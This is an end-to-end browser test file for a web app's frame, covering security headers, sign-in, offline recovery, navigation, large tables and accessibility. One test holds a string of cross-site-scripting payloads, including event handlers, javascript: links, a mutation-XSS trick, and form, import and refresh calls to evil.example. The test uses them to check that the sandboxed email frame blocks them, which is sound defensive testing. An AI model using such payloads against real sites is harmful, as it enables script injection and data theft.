/** The web app's frame in a real browser: how it is served, who gets in, what it survives, and what it lets nobody do. */
import { build } from 'esbuild'
import axe from 'axe-core'
import type { Browser, Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { PROJECT } from '../../scripts/home.ts'
import { type System, until } from '../support/system.ts'
import { openBrowser, openPage, requireNone, SCREENSHOTS, type Watched } from './browser.ts'
import { dueTask, PASSWORD, signedIn, startGround, waitingMail } from './ground.ts'

let system: System
let browser: Browser
let watched: Watched
let page: Page

beforeAll(async () => {
  ;[system, browser] = await Promise.all([startGround(), openBrowser()])
  const lead = await system.lead('Ada Byrne')
  await waitingMail(system, lead, { subject: 'Your night shift' })
  await dueTask(system, lead.leadId, 'Call Ada Byrne')
  watched = await signedIn(browser, system, 'rep')
  page = watched.page
})
beforeEach(async () => {
  await page.setViewportSize({ width: 1440, height: 900 })
})
afterEach(async () => {
  await watched.context.setOffline(false)
  requireNone(watched.faults)
})
afterAll(async () => {
  await browser?.close()
  await system?.close()
})

/** The page shows what it is going to. */
async function shown(path: string, heading: string): Promise<void> {
  await page.goto(path)
  await page.getByRole('heading', { name: heading, level: 1 }).waitFor()
  await page.locator('[aria-busy]').waitFor({ state: 'detached' })
}

/** Whatever asks the server something, and leaves the page as it is. */
async function ask(): Promise<void> {
  await page.keyboard.press('Control+k')
  const asked = page.waitForRequest(/\/api\/accounts\?/)
  await page.getByRole('combobox', { name: 'Search' }).fill(`any ${Math.random()}`)
  await asked
  await page.keyboard.press('Escape')
}

describe('serving', () => {
  const get = (path: string, headers: Record<string, string> = {}) => fetch(`${system.url}${path}`, { headers })
  const asPerson = { accept: 'text/html,*/*;q=0.8' }

  it('gives the page at every address of its own, each time with another nonce, and never for the API', async () => {
    const [home, deep] = [await get('/', asPerson), await get('/leads/4711?x=1', asPerson)]
    const policies = [home, deep].map(answer => answer.headers.get('content-security-policy') ?? '')
    for (const [n, answer] of [home, deep].entries()) {
      expect([answer.status, answer.headers.get('cache-control')]).toEqual([200, 'no-store'])
      const text = await answer.text()
      const nonce = /'nonce-([^']+)'/.exec(policies[n] ?? '')?.[1] ?? 'none'
      expect(text).toContain(`nonce="${nonce}"`)
      expect(text).not.toMatch(/__NONCE__|<script>|javascript:/)
    }
    expect(policies[0]).not.toBe(policies[1])
    expect(policies[0]).toContain("default-src 'none'; script-src 'self'; ")
    expect(policies[0]).not.toMatch(/unsafe|\*|https?:/)
    for (const path of ['/api/nowhere', '/api', '/assets/none.js', '/docs/x', '/forms']) {
      const answer = await get(path, asPerson)
      expect([path, answer.status, answer.headers.get('content-type')]).toEqual([path, 404, 'application/problem+json'])
    }
    expect((await get('/leads/4711')).status).toBe(404)
  })

  it('gives its files compressed, to be kept for good', async () => {
    const text = await (await get('/', asPerson)).text()
    const script = /src="(\/assets\/[^"]+\.js)"/.exec(text)?.[1] ?? ''
    const bytes: Record<string, number> = {}
    for (const encoding of ['br', 'gzip', 'identity']) {
      const answer = await get(script, { 'accept-encoding': encoding })
      expect(answer.headers.get('content-encoding') ?? 'identity').toBe(encoding)
      expect(answer.headers.get('cache-control')).toBe('public, max-age=31536000, immutable')
      expect(answer.headers.get('content-type')).toBe('text/javascript; charset=utf-8')
      bytes[encoding] = (await answer.text()).length
    }
    // Unpacked by fetch: the same text each time.
    expect(new Set(Object.values(bytes)).size).toBe(1)
  })

  it('asks a browser for at most 250 KB of script before Today can be used', async () => {
    const { page: fresh, context, faults } = await openPage(browser, system.url)
    await context.addCookies(await watched.context.cookies())
    let bytes = 0
    fresh.on('response', answer => {
      if (new URL(answer.url()).pathname.endsWith('.js')) bytes += Number(answer.headers()['content-length'] ?? 0)
    })
    await fresh.goto('/today')
    await fresh.getByRole('button', { name: 'Approve' }).waitFor()
    await context.close()
    expect(faults).toEqual([])
    expect(bytes).toBeGreaterThan(50_000)
    expect(bytes).toBeLessThan(250_000)
  })
})

describe('getting in', () => {
  it('goes on at the address one wanted, after password', async () => {
    const { page: fresh, context, faults } = await openPage(browser, system.url)
    await fresh.goto('/approvals')
    await fresh.getByLabel('E-mail address').fill(system.people.rep.email)
    await fresh.getByLabel('Password', { exact: true }).fill('not the password')
    await fresh.getByRole('button', { name: 'Sign in' }).click()
    await fresh.getByText('do not go together').waitFor()
    await fresh.getByLabel('Password', { exact: true }).fill(PASSWORD)
    await fresh.keyboard.press('Enter')
    await fresh.getByRole('heading', { name: 'Approvals', level: 1 }).waitFor()
    await context.close()
    expect(faults).toEqual([])
  })

  it('asks again over the page when the session ended, and loses nothing that was typed', async () => {
    await shown('/approvals', 'Approvals')
    await page.getByRole('button', { name: 'Edit' }).click()
    await page.getByLabel('Mail', { exact: true }).fill('Typed before the session ended.')
    await system.admin.run(`delete from sign_in_session where user_id = $1`, [system.people.rep.id])
    await ask()
    await page.getByRole('dialog', { name: 'Your session has ended' }).waitFor()
    await page.getByRole('dialog', { name: 'Your session' }).getByLabel('Password', { exact: true }).fill(PASSWORD)
    await page.keyboard.press('Enter')
    await page.getByRole('dialog', { name: 'Your session has ended' }).waitFor({ state: 'detached' })
    expect(await page.getByLabel('Mail', { exact: true }).inputValue()).toBe('Typed before the session ended.')
    await page.keyboard.press('Escape')
  })
})

describe('a server that is away', () => {
  it('is said so, what is typed stays, and all goes on by itself', async () => {
    await shown('/approvals', 'Approvals')
    await page.getByRole('button', { name: 'Edit' }).click()
    await page.getByLabel('Mail', { exact: true }).fill('Typed while the server was away.')
    await watched.context.setOffline(true)
    await ask()
    await page.getByText('The server does not answer.').waitFor()
    await watched.context.setOffline(false)
    await page.getByRole('button', { name: 'Try now' }).click()
    await page.getByText('The server does not answer.').waitFor({ state: 'detached' })
    expect(await page.getByLabel('Mail', { exact: true }).inputValue()).toBe('Typed while the server was away.')
    await page.reload()
    await page.getByRole('button', { name: 'Edit' }).click()
    expect(await page.getByLabel('Mail', { exact: true }).inputValue()).toBe('Typed while the server was away.')
    await page.getByRole('button', { name: 'Begin again from the mail' }).click()
    await page.keyboard.press('Escape')
  })
})

describe('going anywhere', () => {
  it('by the palette and by two keys', async () => {
    await shown('/today', 'Today')
    await page.keyboard.press('Control+k')
    await page.getByRole('dialog', { name: 'Search' }).locator('input:focus').waitFor()
    await page.keyboard.type('appro')
    await page.keyboard.press('Enter')
    await page.getByRole('heading', { name: 'Approvals', level: 1 }).waitFor()
    await page.keyboard.press('g')
    await page.keyboard.press('l')
    await page.getByRole('heading', { name: 'Leads', level: 1 }).waitFor()
    await page.keyboard.press('?')
    const keys = page.getByRole('dialog', { name: 'Keys' }).getByText('Go to Today')
    await keys.waitFor()
    expect(await keys.count()).toBe(1)
    await page.keyboard.press('Escape')
  })
})

describe('the table', () => {
  it('keeps at most a hundred of fifty thousand rows in the document', async () => {
    await system.admin.run(
      `insert into lead (source, status, owner_id) select 'import', 'new', $1 from generate_series(1, 50000)`,
      [system.people.rep.id],
    )
    await shown('/leads', 'Leads')
    let most = 0
    for (let n = 0; n < 6; n++) {
      await page.keyboard.press('End')
      await until('more rows', async () => (await page.locator('[role=row][aria-current]').count()) > 0)
      most = Math.max(most, await page.locator('[role=row]').count())
    }
    expect(most).toBeGreaterThan(10)
    expect(most).toBeLessThanOrEqual(100)
    await system.admin.run(`delete from lead where source = 'import'`)
  })
})

describe('what others wrote', () => {
  // That the policy stops what the sanitiser looks at is what we want here.
  afterEach(() => void watched.faults.splice(0))

  const HOSTILE = `<p onclick="pwned=1">Hello</p><script>parent.pwned=1</script><img src=x onerror="parent.pwned=1">
<img src="https://tracker.example/p.gif"><a href="javascript:parent.pwned=1">link</a><iframe srcdoc="<script>top.pwned=1</script>"></iframe>
<svg><animate onbegin="parent.pwned=1" attributeName=x dur=1s></svg><form action="https://evil.example"><input name=a><button>go</button></form>
<style>@import url(https://evil.example/x.css);</style><meta http-equiv="refresh" content="0;url=https://evil.example">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=parent.pwned=1&gt;">`

  it('runs nothing and loads nothing, shown as HTML in its frame', async () => {
    await shown('/leads', 'Leads')
    const asked: string[] = []
    page.on('request', request => asked.push(request.url()))
    const { outputFiles } = await build({
      stdin: {
        contents: `import { createElement } from 'react'; import { createRoot } from 'react-dom/client'
          import { HtmlFrame } from './web/parts/html-frame.tsx'
          const place = document.body.appendChild(document.createElement('div'))
          createRoot(place).render(createElement(HtmlFrame, { html: ${JSON.stringify(HOSTILE)}, title: 'hostile', dark: false }))`,
        resolveDir: PROJECT,
        loader: 'tsx',
      },
      bundle: true,
      write: false,
      format: 'esm',
      jsx: 'automatic',
      define: { 'process.env.NODE_ENV': '"production"' },
    })
    const body = outputFiles[0]?.text ?? ''
    await page.route('**/assets/probe.js', answer => answer.fulfill({ contentType: 'text/javascript', body }))
    await page.addScriptTag({ url: '/assets/probe.js', type: 'module' })
    const frame = page.frameLocator('iframe[title=hostile]')
    await frame.getByText('Hello').click()
    expect(await page.locator('iframe[title=hostile]').getAttribute('sandbox')).toBe('allow-same-origin')
    const inner = await frame.locator(':root').innerHTML()
    expect(inner).not.toMatch(/<script|onerror|onclick|onbegin|javascript:|<form|<iframe|<svg|@import|http-equiv/i)
    expect(await page.evaluate(() => 'pwned' in window)).toBe(false)
    expect(asked.filter(url => !url.startsWith(system.url))).toEqual([])
    expect(new URL(page.url()).pathname).toBe('/leads')
  })
})

describe('every page', () => {
  const PAGES = [
    ['/today', 'Today'],
    ['/approvals', 'Approvals'],
    ['/leads', 'Leads'],
    ['/ask', 'Ask'],
    ['/playbooks', 'Playbooks'],
    ['/runs', 'Runs'],
    ['/settings/me', 'Settings'],
    ['/import', 'Import'],
    ['/policies', 'Policy'],
  ] as const

  it.each(PAGES)('%s fits every width in both themes, and can be used by everybody', async (path, heading) => {
    for (const colorScheme of ['light', 'dark'] as const) {
      await page.emulateMedia({ colorScheme, reducedMotion: 'reduce' })
      for (const width of [375, 768, 1440]) {
        await page.setViewportSize({ width, height: 900 })
        await shown(path, heading)
        const [needs, has] = await page.evaluate(() => [document.documentElement.scrollWidth, window.innerWidth])
        expect([path, width, needs]).toEqual([path, width, Math.min(needs ?? 0, has ?? 0)])
        await page.screenshot({ path: `${SCREENSHOTS}/${heading.toLowerCase()}-${width}-${colorScheme}.png` })
      }
      expect(await seriousFaults()).toEqual([])
    }
  })

  it('of signing in can be used by everybody', async () => {
    const { page: fresh, context } = await openPage(browser, system.url)
    await fresh.goto('/today')
    await fresh.getByRole('button', { name: 'Sign in' }).waitFor()
    expect(await seriousFaults(fresh)).toEqual([])
    await fresh.screenshot({ path: `${SCREENSHOTS}/sign-in.png` })
    await context.close()
  })

  async function seriousFaults(of = page): Promise<string[]> {
    await of.evaluate(axe.source)
    const { violations } = await of.evaluate(() => (window as unknown as { axe: typeof axe }).axe.run())
    return violations
      .filter(({ impact }) => impact === 'serious' || impact === 'critical')
      .map(({ id, nodes }) => `${id}: ${nodes.map(node => node.html.slice(0, 120)).join(' | ')}`)
  }
})
